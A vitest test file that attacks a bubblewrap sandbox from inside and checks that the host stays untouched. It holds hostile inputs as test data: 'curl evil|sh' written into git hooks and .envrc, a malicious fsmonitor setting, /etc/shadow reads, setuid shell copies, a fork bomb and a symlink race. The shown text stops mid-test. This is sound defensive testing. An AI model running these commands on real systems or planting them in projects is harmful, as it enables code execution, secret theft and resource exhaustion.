// isolation: 'bwrap' attacked from inside, judged by the host's state: host files
// unchanged, host secrets not printed, host listener got nothing, processes gone. Ids
// (F1, E4, …) are those of the project's attack catalogue. `npm test` runs this file as its
// own user (root in CI) and, when that is root, again as an unprivileged user (uid 65534).
import fs from 'node:fs'
import dgram from 'node:dgram'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import {
  LocalFilesystem,
  PROTECTED_PATHS,
  PermissionError,
  SandboxOptionError,
  Workspace,
  createWorkspaceTools,
  detectIsolation,
  generateSeatbeltProfile,
  isIsolationAvailable,
} from '../lib/index.mjs'
import { LIB_CJS, POOL_BY_DEFAULT, ownFilesystem, prepareWorkspace, ownSandboxCgroups, processesWith, startNode, survivors, uniqueMarker, useIsolatedSandboxes, waitFor, waitForMarkers, withDeadline } from './helpers.mjs'

const available = isIsolationAvailable('bwrap')
const isRoot = process.getuid() === 0

const { top, fresh, sandbox } = useIsolatedSandboxes('nw-iso-')

const sh = async (sb, command, options) => {
  const r = await sb.executeCommand(command, [], options)
  return { ...r, out: r.stdout + r.stderr }
}

describe('generateSeatbeltProfile (macOS policy, checked as text)', () => {
  it('renders the same policy: default deny, writes to the workspace, no network', () => {
    const profile = generateSeatbeltProfile('/work/space', { readWritePaths: ['/data'] })
    expect(profile).toMatch(/^\(version 1\)\n\(deny default/)
    expect(profile).toContain('(allow file-write* (subpath "/work/space"))')
    expect(profile).toContain('(allow file-write* (subpath "/data"))')
    expect(profile).toContain('(deny network*')
    expect(generateSeatbeltProfile('/w', { allowNetwork: true })).toContain('(allow network*)')
    expect(generateSeatbeltProfile('/w', { readOnly: true })).not.toContain('(allow file-write* (subpath "/w"))')
  })

  it('refuses allowSystemBinaries: false, which seatbelt cannot enforce', () => {
    expect(() => generateSeatbeltProfile('/w', { allowSystemBinaries: false })).toThrow(SandboxOptionError)
  })
})

describe('detectIsolation', () => {
  it('reports what the kernel offers, consistently with whether bwrap works', () => {
    const { available: works, capabilities } = detectIsolation()
    expect(['v2', 'hybrid', 'v1', 'none']).toContain(capabilities.cgroup)
    expect(typeof capabilities.userNamespaces).toBe('boolean')
    expect(typeof capabilities.seccomp).toBe('boolean')
    if (capabilities.landlockAbi !== undefined) expect(Number.isInteger(capabilities.landlockAbi) && capabilities.landlockAbi > 0).toBe(true)
    // bubblewrap here builds user namespaces and installs a seccomp filter.
    if (works) expect(capabilities).toMatchObject({ userNamespaces: true, seccomp: true })
    expect(works).toBe(available)
  })
})

describe.skipIf(!available)('isolation: bwrap', () => {
  it('U/E4/F9/F14: no root, no capabilities, no mount, no device nodes, no /etc/shadow', async () => {
    const sb = sandbox()
    const id = await sh(sb, 'id -u; grep CapEff /proc/self/status')
    expect(id.stdout.split('\n')[0]).not.toBe('0')
    expect(id.stdout).toContain('CapEff:\t0000000000000000')
    expect((await sh(sb, 'cat /etc/shadow')).exitCode).not.toBe(0)
    expect((await sh(sb, 'mkdir -p m && mount -t tmpfs none m')).exitCode).not.toBe(0)
    expect((await sh(sb, 'mknod disk b 7 0')).exitCode).not.toBe(0)
  })

  it('F1/F8: writes outside the workspace fail loudly and the host is untouched', async () => {
    const sb = sandbox()
    const r = await sh(sb, 'echo x > /etc/nw-probe; echo x > /usr/nw-probe; echo x > /nw-probe')
    expect(r.out.match(/Read-only file system/g)?.length).toBe(3)
    // Beside a workspace under /tmp, a write lands in the sandbox's own private /tmp.
    const probe = `${fresh('outside')}.txt`
    await sh(sb, `echo x > ${probe}`)
    for (const p of ['/etc/nw-probe', '/usr/nw-probe', '/nw-probe', probe]) expect(fs.existsSync(p)).toBe(false)
  })

  it('E1/E3/F6/P1/E2: no host environment, home, credentials or processes are visible', async () => {
    process.env.NW_TEST_SECRET_TOKEN = 'host-secret-value'
    try {
      const sb = sandbox({ env: { VISIBLE: 'yes' } })
      const env = await sh(sb, 'env')
      expect(env.stdout).not.toContain('host-secret-value')
      expect(env.stdout).toContain('VISIBLE=yes')
      expect((await sh(sb, `ls ${os.homedir()} /root /home /run 2>&1; ls /proc/${process.pid}`)).exitCode).not.toBe(0)
      const pids = (await sh(sb, "ls /proc | grep -c '^[0-9]'")).stdout.trim()
      expect(Number(pids)).toBeLessThan(10)
      expect((await sh(sb, 'cat /proc/1/environ')).stdout).not.toContain('host-secret-value')
    } finally {
      delete process.env.NW_TEST_SECRET_TOKEN
    }
  })

  it('N1/N2: no network unless allowNetwork; a host listener on loopback receives nothing', async () => {
    let connections = 0
    const server = net.createServer((socket) => {
      connections++
      socket.destroy()
    })
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
    const port = server.address().port
    const connect = `/usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', ${port}), timeout=2)"`
    try {
      const closed = sandbox()
      expect((await sh(closed, "grep -c ':' /proc/net/dev")).stdout.trim()).toBe('1') // loopback only
      expect((await sh(closed, connect)).exitCode).not.toBe(0)
      expect(connections).toBe(0)
      const open = sandbox({ nativeSandbox: { allowNetwork: true } })
      expect((await sh(open, connect)).exitCode).toBe(0)
      expect(connections).toBe(1)
    } finally {
      server.close()
    }
  })

  it('P8/F13: nested user namespaces are refused and no host descriptor leaks in', async () => {
    const sb = sandbox()
    expect((await sh(sb, 'unshare -U true')).exitCode).not.toBe(0)
    expect((await sh(sb, 'ls /proc/self/fd')).stdout).toBe('0\n1\n2\n3\n')
  })

  it('the workspace is writable, files stay usable by the host, and cwd is honoured', async () => {
    const sb = sandbox()
    await sb.start()
    fs.mkdirSync(path.join(sb.workingDirectory, 'sub'))
    fs.chmodSync(path.join(sb.workingDirectory, 'sub'), 0o777)
    const r = await sh(sb, 'pwd; echo made > made.txt', { cwd: 'sub' })
    expect(r.stdout).toBe(`${path.join(sb.workingDirectory, 'sub')}\n`)
    expect(fs.readFileSync(path.join(sb.workingDirectory, 'sub', 'made.txt'), 'utf8')).toBe('made\n')
  })

  it('readOnly workspace and readOnlyPaths are read-only; readWritePaths are writable', async () => {
    const extra = fs.mkdtempSync(path.join(top, 'extra-'))
    const shared = fs.mkdtempSync(path.join(top, 'shared-'))
    fs.chmodSync(extra, 0o755)
    fs.chmodSync(shared, 0o777)
    fs.writeFileSync(path.join(extra, 'ref.txt'), 'reference\n')
    const sb = sandbox({ nativeSandbox: { readOnly: true, readOnlyPaths: [extra], readWritePaths: [shared] } })
    expect((await sh(sb, 'echo x > f.txt')).out).toContain('Read-only file system')
    expect((await sh(sb, `cat ${extra}/ref.txt; echo x > ${extra}/ref.txt`)).out).toContain('reference\n')
    expect(fs.readFileSync(path.join(extra, 'ref.txt'), 'utf8')).toBe('reference\n')
    expect((await sh(sb, `echo ok > ${shared}/out.txt`)).exitCode).toBe(0)
    expect(fs.readFileSync(path.join(shared, 'out.txt'), 'utf8')).toBe('ok\n')
  })

  it('S (N5/N8/N9/N10/P3/P7/P9): the seccomp filter refuses with EPERM what the catalogue lists', async () => {
    const sb = sandbox()
    const py = async (code) => (await sh(sb, `/usr/bin/python3 -c "${code}"`)).out.trim().split('\n').pop()
    const syscall = (nr, ...args) =>
      py(`import ctypes; l = ctypes.CDLL(None, use_errno=True); r = l.syscall(${[nr, ...args].join(', ')}); print(r, ctypes.get_errno())`)
    const EPERM = /Errno 1\]|^-1 1$/
    // UNIX stream sockets (and pairs) are the only UNIX sockets; INET ones exist, for the
    // sandbox's own loopback, but lead nowhere else (N1).
    expect(await py("import socket; socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); print('ok')")).toBe('ok')
    expect(await py("import socket; socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM); print('ok')")).toBe('ok')
    expect(await py('import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)')).toMatch(EPERM) // N5, N6
    expect(await py('import socket; socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)')).toMatch(EPERM) // N8
    expect(await py('import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)')).toMatch(EPERM) // N10
    expect(await py("import socket, errno; s = socket.socket(socket.AF_INET); print(errno.errorcode[s.connect_ex(('1.1.1.1', 80))])")).toBe('ENETUNREACH') // N1
    if (process.arch === 'x64') {
      expect(await syscall(425, 1, 'ctypes.create_string_buffer(120)')).toMatch(EPERM) // N9 io_uring_setup
      expect(await syscall(101, 0, 0, 0, 0)).toMatch(EPERM) // P3 ptrace
      expect(await syscall(250, 0, -3, 0, 0, 0)).toMatch(EPERM) // P9 keyctl
    }
    const tiocsti = "import fcntl, termios, os; fcntl.ioctl(os.open('/dev/null', os.O_RDONLY), termios.TIOCSTI, b'x')"
    expect(await py(tiocsti)).toMatch(EPERM) // P7
  })

  it('N1: with allowNetwork, the sandbox shares the host’s network interfaces', async () => {
    const sb = sandbox({ nativeSandbox: { allowNetwork: true } })
    // The host's network namespace itself, by identity (its interfaces come and go with other work).
    expect((await sh(sb, 'readlink /proc/self/ns/net')).stdout.trim()).toBe(fs.readlinkSync('/proc/self/ns/net'))
  })

  it('R3/R5/R8/P6: limits on file size, /tmp, open files and processes hold, and the one that fired is named', async () => {
    const sb = sandbox({
      nativeSandbox: { limits: { fileSizeBytes: 4096, openFiles: 32, processes: 20 } },
    })
    const big = await sh(sb, 'head -c 10000 /dev/zero > big')
    expect(big).toMatchObject({ exitCode: 128 + os.constants.signals.SIGXFSZ, limitExceeded: 'fileSize' })
    expect(fs.statSync(path.join(sb.workingDirectory, 'big')).size).toBe(4096)
    // /tmp is a host directory watched like the disk: past its size, while it grows, the sandbox is killed.
    const smallTmp = sandbox({ nativeSandbox: { limits: { tmpSizeBytes: 1 << 20 } } })
    const filled = await withDeadline(sh(smallTmp, 'head -c 3000000 /dev/zero > /tmp/fill; sleep 30'), 10_000, 'the /tmp flood to be stopped')
    expect(filled).toMatchObject({ exitCode: 137, limitExceeded: 'disk' })
    expect((await sh(smallTmp, 'rm /tmp/fill && head -c 500000 /dev/zero > /tmp/fill && echo fits')).stdout).toBe('fits\n')
    expect((await sh(sb, 'ulimit -n')).stdout).toBe('32\n')
    // Unset, open files are capped (Node lifts its own soft limit to the hard one).
    const hostHard = Number(execFileSync('sh', ['-c', 'ulimit -Hn'], { encoding: 'utf8' }))
    expect(Number((await sh(sandbox(), 'ulimit -n')).stdout)).toBe(Math.min(65536, hostHard))
    const marker = uniqueMarker()
    const bomb = await sh(sb, `for i in $(seq 1 40); do sleep ${marker} & done; sleep 0.3; pgrep -c -f ${marker}; kill $(jobs -p) 2>/dev/null`)
    expect(bomb.out).toMatch(/fork|Resource temporarily unavailable/i)
    expect(Number(bomb.stdout.trim().split('\n').pop())).toBeLessThan(20)
  })

  it("R5: a /tmp flood is stopped while the host frees as much on the same filesystem, which hides it from the free count", async () => {
    const smallTmp = sandbox({ nativeSandbox: { limits: { tmpSizeBytes: 1 << 20 } } })
    // The sandbox's /tmp is a directory of the host's temporary directory: ballast there is
    // on its filesystem. Freed after the start, it outweighs the flood.
    const ballast = path.join(os.tmpdir(), `nw-ballast-${process.pid}`)
    fs.writeFileSync(ballast, Buffer.alloc(16 << 20, 1))
    try {
      await smallTmp.start()
      fs.rmSync(ballast)
      const filled = await withDeadline(sh(smallTmp, 'head -c 3000000 /dev/zero > /tmp/fill; sleep 30'), 20_000, 'the hidden /tmp flood to be stopped')
      expect(filled).toMatchObject({ exitCode: 137, limitExceeded: 'disk' })
    } finally {
      fs.rmSync(ballast, { force: true })
    }
  })

  it('P6: a fork bomb in one sandbox does not starve another', async () => {
    const limits = { nativeSandbox: { limits: { processes: 20 } } }
    const bombed = sandbox(limits)
    const neighbour = sandbox(limits)
    const marker = uniqueMarker()
    const sleepers = () => processesWith(marker).filter((p) => p.cmdline === `sleep ${marker}`).length
    // Forks until the kernel refuses, then holds on to what it got (a shell would give up).
    prepareWorkspace(bombed)
    fs.writeFileSync(
      path.join(bombed.workingDirectory, 'bomb.py'),
      ['import os, sys, time', 'for _ in range(60):', '    try:', '        if os.fork() == 0:',
        "            os.execvp('sleep', ['sleep', sys.argv[1]])", '    except OSError:', '        break', 'time.sleep(1000)'].join('\n'),
    )
    await bombed.processes.spawn(`/usr/bin/python3 bomb.py ${marker}`)
    expect(await waitFor(() => sleepers() >= 10)).toBe(true)
    const beside = await sh(neighbour, 'for i in 1 2 3 4 5; do sleep 0.01 & done; wait; echo fine')
    expect(beside.stdout).toBe('fine\n')
    expect(sleepers()).toBeLessThan(20)
  })

  it('R1: a memory limit ends only the command that exceeds it, named in the result', async () => {
    const sb = sandbox({ nativeSandbox: { limits: { memoryBytes: 64 << 20 } } })
    const hog = `/usr/bin/python3 -c "a = bytearray(512 << 20); print('allocated')"`
    if (!isRoot) {
      // No cgroup can be made here: the limit cannot hold, so nothing runs.
      const err = await sh(sb, `${hog}; touch ran`).catch((e) => e)
      expect(err.code).toBe('ISOLATION_UNAVAILABLE')
      expect(err.message).toContain('memoryBytes needs a cgroup')
      expect(fs.existsSync(path.join(sb.workingDirectory, 'ran'))).toBe(false)
      return
    }
    const marker = uniqueMarker()
    const bystander = await sb.processes.spawn(`sleep ${marker}`)
    expect(await waitForMarkers([marker])).toBe(true)
    const oom = await sh(sb, hog)
    expect(oom).toMatchObject({ exitCode: 137, limitExceeded: 'memory' })
    expect(oom.stdout).not.toContain('allocated')
    expect(sb.getInfo().resources.memoryMB).toBe(64)
    // The rest of the sandbox lives on: its other process, its init, new commands.
    expect(processesWith(marker).filter((p) => p.cmdline === `sleep ${marker}`)).toHaveLength(1)
    expect((await sh(sb, 'echo alive')).stdout).toBe('alive\n')
    // Its cgroup, as the host sees it (the sandbox has a cgroup namespace of its own).
    const sleeper = processesWith(marker).find((p) => p.cmdline === `sleep ${marker}`)
    const own = fs.readFileSync(`/proc/${sleeper.pid}/cgroup`, 'utf8').match(/native-workspace\.[\d.]+/)[0]
    expect(await bystander.kill()).toBe(true)
    expect(ownSandboxCgroups()).toContain(own)
    await sb.destroy()
    // Idle inits of a warm pool keep theirs.
    expect(ownSandboxCgroups()).toEqual(POOL_BY_DEFAULT ? expect.not.arrayContaining([own]) : [])
  })

  it('R6: a flood of output is cut off at the output limit and the command killed, named in the result', async () => {
    const sb = sandbox({ nativeSandbox: { limits: { outputBytes: 1 << 20 } } })
    const marker = uniqueMarker()
    const flood = await withDeadline(sh(sb, `yes ${marker}`), 10_000, 'the flood to be cut off')
    expect(flood).toMatchObject({ exitCode: 137, limitExceeded: 'output', stdoutTruncated: true })
    expect(flood.stdout.length).toBeLessThanOrEqual(1 << 20)
    expect(flood.stdout).toContain(`${marker}\n`)
    expect(processesWith(marker)).toEqual([])
    // Below the limit, output arrives whole.
    expect((await sh(sb, 'head -c 500000 /dev/zero | tr "\\0" x')).stdout).toHaveLength(500000)
  })

  it('R4/R3: creating files or bytes without end on the workspace disk is stopped, named in the result', async () => {
    // The watchdog judges whole filesystems: each flood runs on one of its own where one
    // can be mounted, so that the count the watchdog acts on is what the sandbox made.
    // Elsewhere other programs' files and bytes count too: each sandbox then has only the
    // budget under test (the other is half of what is free), and the lower bounds go.
    const onOwnDisk = async (limits, flood) => {
      const sb = sandbox({ nativeSandbox: { limits } })
      const unmount = ownFilesystem(sb.workingDirectory, { owner: 65534 })
      try {
        await flood(sb, unmount !== undefined)
      } finally {
        await sb.destroy()
        unmount?.()
      }
    }
    await onOwnDisk({ diskInodes: 2000 }, async (sb, alone) => {
      const marker = uniqueMarker()
      const touch = `/usr/bin/python3 -c "
import os, sys
os.makedirs('many')
i = 0
while True:
    open('many/f%d' % i, 'w').close(); i += 1
" ${marker}`
      // The deadline guards against a flood never stopped, not its pace (a loaded host makes files slowly).
      const inodes = await withDeadline(sh(sb, touch), 60_000, 'the file flood to be stopped')
      expect(inodes).toMatchObject({ exitCode: 137, limitExceeded: 'inodes' })
      const made = fs.readdirSync(path.join(sb.workingDirectory, 'many')).length
      // Not before its budget of 2000 inodes (the files and their directory) was used up.
      expect(made).toBeGreaterThanOrEqual(alone ? 2000 : 1)
      expect(made).toBeLessThan(200_000) // a watchdog: it overshoots by what 200 ms allow
      expect(processesWith(marker)).toEqual([])
      // Cleaning up stays possible, and then writing again — judged on a filesystem of its
      // own only: elsewhere files other programs make meanwhile count against the budget too.
      if (alone) expect((await sh(sb, 'rm -rf many && echo x > small && cat small')).stdout).toBe('x\n')
    })
    await onOwnDisk({ diskBytes: 64 << 20 }, async (sb, alone) => {
      const bytes = await withDeadline(sh(sb, 'head -c 4000000000 /dev/zero > big'), 20_000, 'the disk flood to be stopped')
      expect(bytes).toMatchObject({ exitCode: 137, limitExceeded: 'disk' })
      const written = fs.statSync(path.join(sb.workingDirectory, 'big')).size
      expect(written).toBeGreaterThan(alone ? 64 << 20 : 0)
      expect(written).toBeLessThan(4_000_000_000)
      fs.rmSync(path.join(sb.workingDirectory, 'big'))
    })
  }, 120_000)

  it('refuses malformed limits, naming the option', () => {
    const make = (limits) => () => sandbox({ nativeSandbox: { limits } })
    expect(make({ threads: 4 })).toThrow(/limits.threads is not a limit/)
    expect(make({ openFiles: -1 })).toThrow(/openFiles must be a positive whole number/)
  })

  it('F10/F11: hooks, git config, .envrc and editor tasks that exist at the start stay read-only', async () => {
    const sb = sandbox()
    const ws = prepareWorkspace(sb)
    fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true })
    fs.mkdirSync(path.join(ws, '.vscode'))
    fs.writeFileSync(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n')
    fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n')
    fs.writeFileSync(path.join(ws, '.envrc'), 'export SAFE=1\n')
    fs.writeFileSync(path.join(ws, 'main.c'), 'int main;\n')
    const before = fs.readdirSync(ws, { recursive: true })
    const attacks = [
      "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil|sh' > .git/hooks/pre-commit",
      'mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
      'rm -rf .git',
      'echo "curl evil|sh" >> .envrc',
      'rm -f .envrc; echo evil > .envrc',
      'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
      'echo "[core] fsmonitor = evil" > .git/config',
    ]
    for (const attack of attacks) expect((await sh(sb, attack)).exitCode, attack).not.toBe(0)
    // Ordinary project files stay writable.
    expect((await sh(sb, 'echo "int main() {}" > main.c && cat main.c')).stdout).toBe('int main() {}\n')
    await sb.destroy()
    // Nothing new on the host (no hook, no tasks), .git still there, config and .envrc unchanged.
    expect(fs.readdirSync(ws, { recursive: true }).filter((entry) => !before.includes(entry))).toEqual([])
    expect(fs.statSync(path.join(ws, '.git')).isDirectory()).toBe(true)
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n')
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export SAFE=1\n')
  })

  it('F10/F11: the file tools of a workspace hold the same line as its isolated sandbox', async () => {
    const sb = sandbox()
    const ws = sb.workingDirectory
    fs.mkdirSync(path.join(ws, '.git'), { recursive: true })
    fs.writeFileSync(path.join(ws, '.envrc'), 'export SAFE=1\n')
    const filesystem = new LocalFilesystem({ basePath: ws })
    const tools = await createWorkspaceTools(new Workspace({ sandbox: sb, filesystem }))
    const write = (p, content) => tools.mastra_workspace_write_file.execute({ path: p, content }, {})
    // Also where the sandbox lets commands create the path (it does not exist at the start):
    // the host runs what these tools write, and the next start protects it anyway.
    await expect(write('.git/hooks/pre-commit', 'curl evil | sh\n')).rejects.toMatchObject({ code: 'EACCES' })
    await expect(write('.vscode/tasks.json', '{}')).rejects.toMatchObject({ code: 'EACCES' })
    await expect(write('.envrc', 'curl evil | sh\n')).rejects.toMatchObject({ code: 'EACCES' })
    await expect(filesystem.moveFile('.git', 'old-git')).rejects.toBeInstanceOf(PermissionError)
    await write('notes.md', 'fine\n')
    expect(fs.readFileSync(path.join(ws, 'notes.md'), 'utf8')).toBe('fine\n')
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export SAFE=1\n')
    expect(fs.existsSync(path.join(ws, '.git', 'hooks'))).toBe(false)
    // A filesystem on its own, or told otherwise, writes where Mastra's would.
    const plain = new LocalFilesystem({ basePath: ws })
    const told = new LocalFilesystem({ basePath: ws, protectedPaths: [] })
    new Workspace({ sandbox: sb, filesystem: told })
    await plain.writeFile('.vscode/settings.json', '{}')
    await told.writeFile('.idea/workspace.xml', '<x/>')
    expect(fs.existsSync(path.join(ws, '.vscode', 'settings.json')) && fs.existsSync(path.join(ws, '.idea', 'workspace.xml'))).toBe(true)
  })

  it('F10/F11: protectedPaths replaces the list; a symlink in it stops the start; escaping paths are refused', async () => {
    const open = sandbox({ nativeSandbox: { protectedPaths: [] } })
    expect((await sh(open, 'echo "export X=1" > .envrc && cat .envrc')).stdout).toBe('export X=1\n')
    const narrow = sandbox({ nativeSandbox: { protectedPaths: ['deploy/keys'] } })
    const keys = path.join(prepareWorkspace(narrow), 'deploy', 'keys')
    fs.mkdirSync(keys, { recursive: true })
    expect((await sh(narrow, 'echo x > .envrc && echo written')).stdout).toBe('written\n')
    expect((await sh(narrow, 'touch deploy/keys/new')).exitCode).not.toBe(0)
    expect((await sh(narrow, 'mv deploy moved')).exitCode).not.toBe(0)
    expect(fs.readdirSync(keys)).toEqual([])
    const linked = sandbox()
    prepareWorkspace(linked)
    fs.symlinkSync('/tmp', path.join(linked.workingDirectory, '.vscode'))
    const err = await sh(linked, 'touch ran').catch((e) => e)
    expect(err.code).toBe('ISOLATION_UNAVAILABLE')
    expect(err.message).toContain('.vscode is a symbolic link')
    expect(fs.existsSync(path.join(linked.workingDirectory, 'ran'))).toBe(false)
    expect(() => sandbox({ nativeSandbox: { protectedPaths: ['../outside'] } })).toThrow(SandboxOptionError)
    expect(PROTECTED_PATHS).toEqual(expect.arrayContaining(['.git/hooks', '.git/config', '.envrc', '.vscode']))
  })

  it('F2/F3/F5/F15: links and setuid copies give no way to host files or root', async () => {
    const sb = sandbox()
    const secret = `${fresh('secret')}.txt`
    fs.writeFileSync(secret, 'host secret\n')
    fs.chmodSync(secret, 0o600)
    const r = await sh(
      sb,
      `ln -s /etc/shadow k; cat k; ln -s ${secret} s; cat s; echo pwned > s; ln /etc/passwd pw; cp /bin/sh rootsh; chmod 4755 rootsh; ls -ln rootsh`,
    )
    expect(r.out).not.toContain('host secret')
    expect(fs.readFileSync(secret, 'utf8')).toBe('host secret\n')
    expect(fs.existsSync(path.join(sb.workingDirectory, 'pw'))).toBe(false) // no hardlink across mounts
    // The copy is the workspace owner's (root on a root host), so it may never be setuid or setgid.
    expect(r.out).toContain("chmod: changing permissions of 'rootsh': Operation not permitted")
    const rootsh = fs.statSync(path.join(sb.workingDirectory, 'rootsh'))
    expect(rootsh.uid).toBe(process.getuid())
    expect(rootsh.mode & 0o6000).toBe(0)
    const creations = await sh(
      sb,
      `python3 -c "import os, stat
for make in (lambda: os.open('suid', os.O_CREAT | os.O_WRONLY, 0o4755), lambda: os.mknod('sgid', stat.S_IFREG | 0o2755), lambda: os.chmod('rootsh', 0o2755)):
    try:
        make(); print('made')
    except PermissionError:
        print('refused')"`,
    )
    expect(creations.stdout).toBe('refused\nrefused\nrefused\n')
    expect(fs.readdirSync(sb.workingDirectory).filter((f) => fs.statSync(path.join(sb.workingDirectory, f)).mode & 0o6000)).toEqual([])
  })

  it('P2/P10/E5: kill -9 -1 reaches only the sandbox (not even its init); no new privileges', async () => {
    const sb = sandbox()
    expect((await sh(sb, 'grep NoNewPrivs /proc/self/status')).stdout).toBe('NoNewPrivs:\t1\n')
    // PID 1 is the sandbox's own init, and its command line shows no host path.
    expect((await sh(sb, "tr '\\0' ' ' < /proc/1/cmdline")).stdout).not.toContain(top)
    await sh(sb, 'kill -9 -1')
    expect(process.kill(process.pid, 0)).toBe(true) // this test process is alive
    expect((await sh(sb, 'echo still-working')).stdout).toBe('still-working\n')
  })

  it('N3/N7: UDP and abstract UNIX sockets do not reach host listeners', async () => {
    const udp = dgram.createSocket('udp4')
    let datagrams = 0
    udp.on('message', () => datagrams++)
    await new Promise((resolve) => udp.bind(0, '127.0.0.1', resolve))
    const abstractName = `\0${path.basename(fresh('nw-test'))}`
    let unixConnections = 0
    const unixServer = net.createServer((socket) => {
      unixConnections++
      socket.destroy()
    })
    await new Promise((resolve) => unixServer.listen(abstractName, resolve))
    try {
      const sb = sandbox()
      const port = udp.address().port
      await sh(sb, `/usr/bin/python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', ${port}))"`)
      const name = abstractName.slice(1)
      const r = await sh(sb, `/usr/bin/python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0${name}')"`)
      expect(r.exitCode).not.toBe(0)
      await new Promise((resolve) => setTimeout(resolve, 100))
      expect(datagrams).toBe(0)
      expect(unixConnections).toBe(0)
    } finally {
      udp.close()
      unixServer.close()
    }
  })

  it('E5/E6: no /sys, no host sockets under /run or /tmp', async () => {
    const sb = sandbox()
    expect((await sh(sb, 'ls /sys/class/net')).exitCode).not.toBe(0)
    expect((await sh(sb, 'ls /run /var/run')).exitCode).not.toBe(0)
    expect((await sh(sb, 'ls -A /tmp')).stdout.trim().split('\n').filter(Boolean).every((n) => n.startsWith('nw-iso-'))).toBe(true)
  })

  it('R2/R7: a CPU-time limit ends a busy loop, named in the result; a timeout ends a sleeper', async () => {
    const sb = sandbox({ nativeSandbox: { limits: { cpuSeconds: 1 } } })
    const busy = await sh(sb, 'while :; do :; done')
    expect(busy).toMatchObject({ limitExceeded: 'cpu', exitCode: 128 + os.constants.signals.SIGXCPU })
    const sleeper = await sh(sb, 'sleep 30', { timeout: 300 })
    expect(sleeper).toMatchObject({ exitCode: 124, timedOut: true })
  })

  it('F4/F16: what a command leaves in the workspace cannot turn the host file tools against the host', async () => {
    const sb = sandbox()
    const target = fresh('bashrc')
    fs.writeFileSync(target, 'host rc\n')
    await sh(sb, `ln -s ${target} l; mkfifo output.log`)
    const filesystem = new LocalFilesystem({ basePath: sb.workingDirectory })
    await expect(filesystem.writeFile('l', 'curl evil | sh\n')).rejects.toBeInstanceOf(PermissionError)
    expect(fs.readFileSync(target, 'utf8')).toBe('host rc\n')
    // A FIFO nobody writes to: a blocking read would hang the host's tool call forever.
    const tools = await createWorkspaceTools(new Workspace({ sandbox: sb, filesystem }))
    const read = tools.mastra_workspace_read_file.execute({ path: 'output.log' }, {})
    await expect(withDeadline(read, 5000, 'reading a FIFO')).rejects.toMatchObject({ code: 'EACCES' })
    await expect(withDeadline(filesystem.writeFile('output.log', 'x'), 5000, 'writing a FIFO')).rejects.toBeInstanceOf(PermissionError)
  })

  it('F17: swapping a directory for a symlink while the host file tools work never lets them out', async () => {
    const sb = sandbox()
    const secretDir = fs.mkdtempSync(path.join(top, 'f17-secret-'))
    fs.writeFileSync(path.join(secretDir, 'file'), 'SECRET\n')
    // The command swaps `dir` between a real directory and a symlink to the host directory.
    prepareWorkspace(sb)
    fs.writeFileSync(
      path.join(sb.workingDirectory, 'race.py'),
      [
        'import os, sys, time',
        "os.makedirs('real'); open('real/file', 'w').write('inside\\n')",
        "os.symlink(sys.argv[1], 'link')",
        'while True:',
        "    for name in ('real', 'link'):",
        "        os.rename(name, 'dir'); time.sleep(0.001); os.rename('dir', name)",
      ].join('\n'),
    )
    await sb.processes.spawn(`/usr/bin/python3 race.py ${secretDir}`)
    const filesystem = new LocalFilesystem({ basePath: sb.workingDirectory })
    const seen = new Set()
    const deadline = Date.now() + 1500
    while (Date.now() < deadline) {
      const [read, written] = await Promise.allSettled([filesystem.readFile('dir/file', { encoding: 'utf8' }), filesystem.writeFile('dir/out', 'x', { recursive: false })])
      seen.add(read.status === 'fulfilled' ? read.value : read.reason.code)
      if (written.status === 'rejected') seen.add(written.reason.code)
    }
    expect([...seen]).not.toContain('SECRET\n')
    expect(seen.has('inside\n')).toBe(true) // the race ran: the real directory was read
    expect(seen.has('EACCES')).toBe(true) // and the symlink was met, and refused
    expect(fs.readdirSync(secretDir)).toEqual(['file'])
  })

  it('N4: names do not resolve without the network', async () => {
    const r = await sh(sandbox(), 'getent hosts example.com')
    expect(r.exitCode).not.toBe(0)
    expect(r.stdout).toBe('')
  })

  it('P4: a setsid daemon dies with the kill of its command', async () => {
    const sb = sandbox()
    const [daemon, main] = [uniqueMarker(), uniqueMarker()]
    const handle = await sb.processes.spawn(`setsid sleep ${daemon} & sleep ${main}`)
    expect(await waitForMarkers([daemon, main])).toBe(true)
    expect(await sb.processes.kill(handle.pid)).toBe(true)
    expect(await survivors([daemon, main])).toEqual([])
  })

  it('P5: a Node process killed with SIGKILL leaves no sandboxed process alive', async () => {
    const [marker, left] = [uniqueMarker(), uniqueMarker()]
    const { child, exited } = startNode(`
      const { LocalSandbox } = require(${JSON.stringify(LIB_CJS)})
      const sb = new LocalSandbox({ workingDirectory: ${JSON.stringify(path.join(top, 'p5'))}, isolation: 'bwrap' })
      sb.processes.spawn('setsid sleep ${marker} & sleep ${marker}')
        .then(() => sb.executeCommand('setsid sleep ${left} &'))
        .then((r) => console.log(r.leftRunning ? 'READY' : 'NOTHING-LEFT'))
      setInterval(() => {}, 1000)
    `)
    await withDeadline(new Promise((resolve) => child.stdout.on('data', (d) => d.includes('READY') && resolve())), 10_000, 'READY')
    expect(await waitForMarkers([marker, left])).toBe(true)
    child.kill('SIGKILL')
    await exited
    expect(await survivors([marker, left])).toEqual([])
  })

  it('what a command leaves running is a background process of the sandbox, ended by kill() and destroy()', async () => {
    const sb = sandbox()
    const [first, second] = [uniqueMarker(), uniqueMarker()]
    const result = await withDeadline(sb.executeCommand(`sh -c 'sleep ${first} &'`), 10_000, 'executeCommand')
